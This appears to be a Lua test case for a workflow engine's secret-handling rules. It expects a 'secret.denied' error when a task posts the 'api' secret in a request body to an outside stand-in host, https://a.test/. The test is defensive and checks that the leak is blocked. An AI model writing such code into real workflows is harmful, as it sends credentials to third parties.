-- expect: secret.denied at work line 5 saying "may go to"
-- The token in the body, to a host that is not the API.
return flow "secret_redirect" {
    task "work" (function(s, ctx)
        return ctx.http.post("https://a.test/", { body = "t=" .. ctx.secret "api" }).body
    end),
}
